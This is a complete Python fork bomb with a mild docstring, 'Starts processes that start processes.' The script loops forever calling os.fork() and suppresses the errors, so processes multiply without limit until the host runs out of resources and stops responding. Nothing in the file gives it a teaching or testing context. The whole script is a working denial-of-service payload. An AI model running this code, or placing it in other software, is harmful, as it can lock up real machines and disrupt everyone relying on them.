"""Starts processes that start processes."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
